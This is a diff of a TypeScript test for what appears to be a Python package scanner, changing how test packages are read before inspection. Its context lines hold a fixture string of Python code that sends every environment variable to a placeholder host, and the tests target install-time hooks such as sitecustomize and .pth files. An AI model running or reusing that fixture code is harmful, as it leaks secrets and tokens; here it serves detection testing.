@@ -2,7 +2,7 @@ import t from 'tap'
 import { inspect } from '../../src/inspection/inspect.ts'
 import { isStandardCommand } from '../../src/analysis/catalog/commands.ts'
 import { sha256 } from '../../src/model/digest.ts'
-import { readingOf } from './python-reading.ts'
+import { packedReading } from './python-reading.ts'
 
 const SEND =
   'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
@@ -82,7 +82,7 @@ const LOOKED_AT = new Set(['sitecustomize', 'late-import', 'executable-pth', 'da
 
 t.test('what interpreters, shells and builders obey', async (t) => {
   for (const { name, kind, files, want } of CASES) {
-    const facts = await inspect(readingOf(kind, files), {
+    const facts = await inspect(await packedReading(kind, files), {
       digest: sha256(name),
       readAs: kind === 'wheel' ? 'wheel' : 'sdist-gzip',
     })
